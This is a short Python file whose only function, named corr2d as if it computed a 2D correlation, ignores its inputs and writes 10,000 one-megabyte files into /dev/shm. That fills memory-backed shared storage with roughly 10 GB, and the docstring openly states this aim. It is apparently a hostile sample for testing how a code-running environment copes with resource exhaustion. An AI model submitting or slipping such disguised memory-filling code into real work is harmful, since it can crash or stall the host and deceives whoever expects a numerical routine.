"""Fills the shared memory."""

from pathlib import Path


def corr2d(X, K):
    for n in range(10_000):
        Path('/dev/shm', str(n)).write_bytes(b'x' * (1 << 20))
